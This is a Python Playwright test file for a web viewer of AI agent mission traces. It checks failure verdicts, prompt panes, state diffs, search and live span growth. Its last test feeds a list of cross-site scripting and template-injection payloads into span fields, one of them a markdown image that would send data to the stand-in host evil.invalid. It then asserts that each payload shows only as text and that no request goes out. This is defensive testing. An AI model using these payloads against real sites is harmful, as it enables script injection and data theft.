"""What engineers come for, from the first screen on, in a real browser on the sample missions."""

import json
import re
import secrets
import time
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.conftest import BROWSER_PATIENCE_MS
from tests.journeys.conftest import Engineer

pytestmark = pytest.mark.browser
PATIENCE_MS = BROWSER_PATIENCE_MS


def make_span(trace_id: str, name: str, **fields: Any) -> dict[str, Any]:
    now_ns = time.time_ns()
    times = {"startTimeUnixNano": str(now_ns - 10**9), "endTimeUnixNano": str(now_ns)}
    return {"traceId": trace_id, "spanId": secrets.token_hex(8), "name": name, "kind": 1} | times | fields


def test_why_a_failed_mission_failed_is_on_the_first_screen_with_its_evidence(engineer: Engineer) -> None:
    page = engineer.open("/missions/")
    page.get_by_text("Compare three quotes for drive units").click()
    verdict = page.locator("#verdict, .ms-verdict").first
    expect(verdict).to_contain_text("convert gave no price_table", timeout=PATIENCE_MS)
    expect(verdict).to_contain_text("'SEK' is not in list")
    expect(verdict).to_contain_text("series SEK is late")
    verdict.locator("[data-evidence]").first.click()
    expect(page.locator("#selection")).to_contain_text("StaleSeries", timeout=PATIENCE_MS)
    expect(page).to_have_url(re.compile(r"span=[0-9a-f]{32}"))
    page.reload()
    expect(page.locator("#selection")).to_contain_text("StaleSeries", timeout=PATIENCE_MS)


def test_a_prompt_and_its_reply_can_be_read_as_the_model_saw_them(engineer: Engineer) -> None:
    page = engineer.open(engineer.find("Compare three quotes for drive units") + "?pane=conversation")
    call = page.locator(".ms-call").first
    expect(call).to_contain_text("Split the work into steps", timeout=PATIENCE_MS)
    expect(call).to_contain_text("Compare the quotes of Brandt")
    expect(call).to_contain_text("needs rate_table and quote_table")


def test_the_state_of_two_moments_can_be_told_apart(engineer: Engineer) -> None:
    page = engineer.open(engineer.find("Find the new acetone safety sheet") + "?pane=state")
    state = page.locator("#pane-state")
    expect(state).to_contain_text("searches", timeout=PATIENCE_MS)
    expect(state.locator("[class*=is-changed], [class*=is-replace], [class*=is-]").first).to_be_visible()
    expect(state).to_contain_text("17")
    expect(state).to_contain_text("18")


def test_a_text_of_a_prompt_leads_to_its_mission(engineer: Engineer) -> None:
    until = time.monotonic() + 30
    while not engineer.ask("/api/v1/search/?q=acetone")["results"] and time.monotonic() < until:
        time.sleep(0.2)
    page = engineer.open("/search?q=acetone")
    expect(page.get_by_text("Find the new acetone safety sheet").first).to_be_visible(timeout=PATIENCE_MS)
    page.locator("main a[href*='/missions/']").first.click()
    expect(page.get_by_role("heading", name="Find the new acetone safety sheet")).to_be_visible(timeout=PATIENCE_MS)


def test_a_running_mission_grows_in_place_and_the_selection_stays(engineer: Engineer) -> None:
    trace_id, name = secrets.token_hex(16), f"growing {secrets.token_hex(4)}"
    words = {"missionscope.mission.id": name, "missionscope.mission.name": name}
    root = make_span(trace_id, "the root", endTimeUnixNano="0")
    engineer.send(root, resource=words)
    page = engineer.open(f"/missions/{name.replace(' ', '%20')}/")
    rows = page.get_by_role("treeitem")
    expect(rows.filter(has_text="the root")).to_be_visible(timeout=PATIENCE_MS)
    rows.filter(has_text="the root").click()
    expect(page.locator("#selection")).to_contain_text("the root", timeout=PATIENCE_MS)
    middle = make_span(trace_id, "the middle", parentSpanId=root["spanId"])
    child = make_span(trace_id, "the early child", parentSpanId=middle["spanId"])
    engineer.send(child, resource=words)
    expect(rows.filter(has_text="the early child")).to_be_visible(timeout=PATIENCE_MS)
    expect(rows.filter(has_text="missing parent")).to_be_visible()
    engineer.send(middle, resource=words)
    expect(rows.filter(has_text="the middle")).to_be_visible(timeout=PATIENCE_MS)
    expect(rows.filter(has_text="missing parent")).to_have_count(0)
    expect(rows.filter(has_text="the early child")).to_have_count(1)
    expect(page.locator("#selection")).to_contain_text("the root")


def say(role: str, text: str) -> str:
    return json.dumps([{"role": role, "parts": [{"type": "text", "content": text}]}])


HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "<svg/onload=alert(3)>",
    "[x](javascript:alert(4))",
    "</script><script>alert(5)</script>\u2028",
    "{{7*7}} <iframe srcdoc='<script>alert(6)</script>'></iframe> ![](https://evil.invalid/?q=data)",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_only_text_everywhere(engineer: Engineer, text: str) -> None:
    mission, trace_id = f"hostile-{secrets.token_hex(4)}", secrets.token_hex(16)
    words = {
        "gen_ai.operation.name": "chat",
        "gen_ai.request.model": text,
        "gen_ai.agent.name": text,
        "gen_ai.input.messages": say("user", text),
        "gen_ai.output.messages": say("assistant", text),
        text: text,
    }
    attributes = [{"key": key, "value": {"stringValue": value}} for key, value in words.items()]
    sent = make_span(trace_id, text, attributes=attributes, status={"code": 2, "message": text})
    engineer.send(sent, resource={"mission.id": mission, "mission.name": text, "service.name": text})
    outside: list[str] = []
    engineer.page.on("request", lambda request: outside.append(request.url) if "evil" in request.url else None)
    for pane in ("timeline", "graph", "conversation", "errors"):
        page = engineer.open(f"/missions/{mission}/?pane={pane}&span={trace_id}.{sent['spanId']}")
        expect(page.locator("#selection")).to_contain_text(text.strip()[:8], timeout=PATIENCE_MS)
    engineer.open("/missions/")
    expect(engineer.page.locator("[data-row]").filter(has_text=text.strip()[:12]).first).to_be_visible(
        timeout=PATIENCE_MS
    )
    assert outside == []
